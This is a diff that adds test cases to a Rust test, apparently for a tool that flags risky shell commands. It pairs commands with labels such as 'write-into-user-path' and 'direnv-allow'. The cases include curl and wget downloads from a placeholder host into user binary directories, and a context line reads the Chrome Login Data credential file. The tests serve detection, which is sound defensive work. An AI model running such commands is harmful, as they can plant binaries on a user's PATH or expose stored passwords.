@@ -7847,6 +7847,16 @@ fn sixteenth_pass_secrets_builds_and_hosts() {
                 "project-deploy-script-interpreter",
             ),
             (
+                "curl -Lo ~/.local/bin/helm https://e.example/helm",
+                "write-into-user-path",
+            ),
+            (
+                "wget -O ~/bin/kubectl https://e.example/k",
+                "write-into-user-path",
+            ),
+            ("echo x > ~/.local/bin/git", "write-into-user-path"),
+            ("direnv allow .", "direnv-allow"),
+            (
                 r"cat ~/Library/Application\ Support/Google/Chrome/Default/Login\ Data",
                 "secret-file",
             ),
@@ -7899,6 +7909,16 @@ fn sixteenth_pass_secrets_builds_and_hosts() {
                 "python tests/deploy_test.py",
                 "project-deploy-script-interpreter",
             ),
+            (
+                "curl -o ~/.local/share/x.json https://e.example/x",
+                "write-into-user-path",
+            ),
+            (
+                "curl -o ./bin/tool https://e.example/t",
+                "write-into-user-path",
+            ),
+            ("direnv status", "direnv-allow"),
+            ("direnv deny", "direnv-allow"),
             (
                 "python deploy.py --dry-run",
                 "project-deploy-script-interpreter",
